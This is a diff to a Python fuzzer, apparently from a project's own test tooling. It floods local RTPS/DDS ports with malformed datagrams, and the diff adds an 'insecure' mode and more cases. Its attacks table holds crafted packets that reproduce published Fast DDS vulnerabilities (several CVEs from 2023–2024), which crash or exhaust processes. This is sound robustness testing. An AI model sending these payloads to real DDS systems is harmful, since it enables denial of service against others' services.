@@ -1,8 +1,10 @@
-"""A program without the key of a run sends datagrams of RTPS to all its ports: rtps_fuzzer.py ADDRESS COUNT SEED [RATE]
+"""A program without the key of a run sends datagrams of RTPS to all its ports: rtps_fuzzer.py ADDRESS COUNT SEED [RATE] [insecure]
 
 First the datagrams of ATTACKS, which end processes with Fast DDS or make them fill their memory. Then COUNT datagrams that
 are right but for a few fields: participants of its own, which announce themselves and their writers and readers of the
-run's topics, send every kind of submessage. They speak only for themselves. RATE limits the datagrams a second.
+run's topics, send every kind of submessage. They speak only for themselves. RATE limits the datagrams a second. A run
+without a key takes anybody for a member: `insecure` leaves out the few numbers that are right for members alone
+(docs/security.md).
 Prints as JSON how many datagrams were sent. Standard library alone."""
 import json
 import pathlib
@@ -14,15 +16,17 @@ import time
 
 RUN = "diffusion_10"
 FIRST_PORT = 7400
+FIRST_OF_SENDERS = int(pathlib.Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split()[0])
 PAD, ACKNACK, HEARTBEAT, GAP, INFO_TS, INFO_SRC, INFO_DST, INFO_REPLY = 0x01, 0x06, 0x07, 0x08, 0x09, 0x0C, 0x0E, 0x0F
 NACK_FRAG, HEARTBEAT_FRAG, DATA, DATA_FRAG = 0x12, 0x13, 0x15, 0x16
-NOBODY = bytes(4)
+UNKNOWN = bytes(4)
 PARTICIPANTS, TOPICS, WRITERS, READERS = (bytes.fromhex(name) for name in ("000100c2", "000002c2", "000003c2", "000004c2"))
 LIVELINESS, SECURITY = bytes.fromhex("000200c2"), bytes.fromhex("000201c3")
 PARTICIPANT = bytes.fromhex("000001c1")
 TOPIC_NAMES = ("ControlRequest", "Join", "ViewRequest", "Leave", "SpaceState", "View", "World")
 USER_WRITERS = [struct.pack(">I", 0x00000103 + 0x100 * k) for k in range(len(TOPIC_NAMES))]
 USER_READERS = [struct.pack(">I", 0x00000104 + 0x100 * k) for k in range(len(TOPIC_NAMES))]
+MOST_FIRST, MOST_SAMPLE = 200_000, 256 * 1024  # of strangers (common/bus/check_rtps.h)
 END = struct.pack("<HH", 1, 0)
 LIST, PLAIN = b"\0\3\0\0", b"\0\1\0\0"
 
@@ -48,21 +52,21 @@ def submessage(kind, flags, body):
     return struct.pack("<BBH", kind, flags | 1, len(body)) + body
 
 
-def data(writer, sequence_number, flags, rest, reader=NOBODY):
+def data(writer, sequence_number, flags, rest, reader=UNKNOWN):
     return submessage(DATA, flags, struct.pack("<HH", 0, 16) + reader + writer + number(sequence_number) + rest)
 
 
 def fragment(writer, sequence_number, start, size, sample, rest, flags=0, count=1):
-    return submessage(DATA_FRAG, flags, struct.pack("<HH", 0, 28) + NOBODY + writer + number(sequence_number) +
+    return submessage(DATA_FRAG, flags, struct.pack("<HH", 0, 28) + UNKNOWN + writer + number(sequence_number) +
                       struct.pack("<IHHI", start, count, size, sample) + rest)
 
 
-def heartbeat(writer, first, last, count, reader=NOBODY):
+def heartbeat(writer, first, last, count, reader=UNKNOWN):
     return submessage(HEARTBEAT, 0, reader + writer + number(first) + number(last) + struct.pack("<I", count))
 
 
 def gap(writer, start, end, bits=0):
-    return submessage(GAP, 0, NOBODY + writer + number(start) + number(end) + struct.pack("<I", bits) + b"\xff" * 4 * ((bits + 31) // 32))
+    return submessage(GAP, 0, UNKNOWN + writer + number(start) + number(end) + struct.pack("<I", bits) + b"\xff" * 4 * ((bits + 31) // 32))
 
 
 def participant(prefix, more=b""):
@@ -81,7 +85,7 @@ def endpoint(guid, topic):
 
 
 def attacks(prefix):
-    """What the published vulnerabilities are about, and what was found here (tests/unit/bus/rtps_datagrams.h)."""
+    """Datagrams of the published vulnerabilities, and of those that were found here (tests/unit/bus/rtps_datagrams.h)."""
     far = 2**63 - 1
     guid = parameter(0x50, prefix + PARTICIPANT)
     token = lambda lists: guid + parameter(0x1001, text("t") + lists) + END
@@ -93,6 +97,8 @@ def attacks(prefix):
         "CVE-2023-39945": data(PARTICIPANTS, 1, 4, b"\0\x7f\0\0" + participant(prefix)),
         "CVE-2023-39946": announce(guid + parameter(0x59, words(1, 4000) + b"key\0" + text("value")) + END),
         "CVE-2023-39947": announce(guid + parameter(0x59, words(0xFFFFFFFF) + text("key") + text("value")) + END),
+        "CVE-2023-39948": data(WRITERS, 1, 4, b"\0\x0b\0\0" + participant(prefix)),
+        "CVE-2023-42459": data(USER_WRITERS[0], 1, 6, parameter(0x71, b"\0\0\0\1") + struct.pack("<HH", 0x70, 16)),
         "CVE-2023-50716": fragment(bytes.fromhex("00000303"), 31, 1, 4, 4, END, flags=2),
         "CVE-2024-28231": submessage(DATA, 6, b"")[:2] + struct.pack("<H", 24) +
                           data(PARTICIPANTS, 1, 0, parameter(0x0888, bytes(32)) + END)[4:],
@@ -108,18 +114,43 @@ def attacks(prefix):
         "heartbeat to the last number": heartbeat(WRITERS, 1, far, 10),
         "fragment of a key": fragment(USER_WRITERS[0], 1, 1, 1024, 2000, bytes(1024), flags=4),
         "missing fragment 0": submessage(NACK_FRAG, 0, USER_READERS[6] + bytes.fromhex("00000103") + number(1) + words(0, 32, 0xFFFFFFFF, 1)),
+        "a message": data(USER_WRITERS[3], 1, 4, PLAIN + bytes(40)),
+        "its end": data(USER_WRITERS[3], 2, 2, parameter(0x71, b"\0\0\0\2") + END),
+        "its disposal": data(USER_WRITERS[3], 3, 2, parameter(0x71, b"\0\0\0\1") + END),
+        "another message": data(USER_WRITERS[3], 3, 4, PLAIN + bytes(40)),
         "many representations": announce(parameter(0x73, words(0xFFFFFFFF)) + END),
         "liveliness of a byte": data(LIVELINESS, 1, 6, parameter(0x70, bytes(16)) + END + PLAIN + b"x"),
     }
 
 
+def is_for_members(datagram):
+    """Whether a HEARTBEAT starts, or a message is as large, as the check lets only members say."""
+    at = 20
+    while at + 4 <= len(datagram):
+        order = "<" if datagram[at + 1] & 1 else ">"
+        kind, length = datagram[at], struct.unpack_from(order + "H", datagram, at + 2)[0]
+        if length == 0 and kind not in (PAD, INFO_TS):
+            length = len(datagram) - at - 4
+        if at + 4 + length > len(datagram):
+            return False
+        if kind == HEARTBEAT and length >= 28:
+            high, low = struct.unpack_from(order + "iI", datagram, at + 12)
+            if (high << 32) + low > MOST_FIRST:
+                return True
+        if kind == DATA_FRAG and length >= 32 and struct.unpack_from(order + "I", datagram, at + 32)[0] > MOST_SAMPLE:
+            return True
+        at += 4 + (length + 3) // 4 * 4
+    return False
+
+
 class Fuzzer:
-    def __init__(self, address, seed):
+    def __init__(self, address, seed, insecure=False):
+        self.insecure = insecure
         self.random = random.Random(seed)
         self.address = address
         self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         lines = pathlib.Path("/proc/net/udp").read_text().splitlines()[1:]
-        self.ports = sorted({port for port in (int(line.split()[1].split(":")[1], 16) for line in lines) if FIRST_PORT <= port < 32000})
+        self.ports = sorted({port for port in (int(line.split()[1].split(":")[1], 16) for line in lines) if FIRST_PORT <= port < FIRST_OF_SENDERS})
         self.prefixes = [b"\x01\x10fuzz" + struct.pack(">HI", seed & 0xFFFF, k) for k in range(3)]
         self.count = 0
         self.sent = 0
@@ -175,7 +206,7 @@ class Fuzzer:
             return submessage(NACK_FRAG, 0, draw.choice(USER_READERS) + writer + number(near) + struct.pack("<III", near, 32, 0xF0F0F0F0) +
                               struct.pack("<I", self.count))
         if kind == HEARTBEAT_FRAG:
-            return submessage(HEARTBEAT_FRAG, 0, NOBODY + writer + number(near) + struct.pack("<II", near, self.count))
+            return submessage(HEARTBEAT_FRAG, 0, UNKNOWN + writer + number(near) + struct.pack("<II", near, self.count))
         if kind == DATA_FRAG:
             sample, start = draw.randrange(1025, 9000), 1
             start = draw.randrange(1, (sample + 1023) // 1024 + 1)
@@ -197,6 +228,9 @@ class Fuzzer:
             return data(writer, near, 4, LIST + endpoint(prefix + own, TOPIC_NAMES[topic]))
         if writer == LIVELINESS:
             return data(writer, near, 4, PLAIN + prefix + struct.pack(">I", 1) + bytes(4))
+        if draw.random() < 0.3:
+            status = draw.choice((1, 2, 3))
+            return data(writer, near, 2, parameter(0x70, bytes(16)) + parameter(0x71, bytes((0, 0, 0, status))) + END)
         qos = parameter(0x70, draw.randbytes(16)) + END if draw.random() < 0.3 else b""
         return data(writer, near, 6 if qos else 4, qos + PLAIN + draw.randbytes(draw.randrange(200)))
 
@@ -236,7 +270,9 @@ class Fuzzer:
     def work(self, count, rate):
         begin, first = time.monotonic(), self.sent
         while self.sent - first < count and self.ports:
-            self.say(self.draw())
+            datagram = self.draw()
+            if not self.insecure or not is_for_members(datagram):
+                self.say(datagram)
             ahead = (self.sent - first) / rate - (time.monotonic() - begin)
             if ahead > 0:
                 time.sleep(ahead)
@@ -245,7 +281,7 @@ class Fuzzer:
 
 
 if __name__ == "__main__":
-    fuzzer = Fuzzer(sys.argv[1], int(sys.argv[3]))
+    fuzzer = Fuzzer(sys.argv[1], int(sys.argv[3]), "insecure" in sys.argv)
     fuzzer.introduce()
     fuzzer.attack()
     fuzzer.work(int(sys.argv[2]), float(sys.argv[4]) if len(sys.argv) > 4 else 20_000)
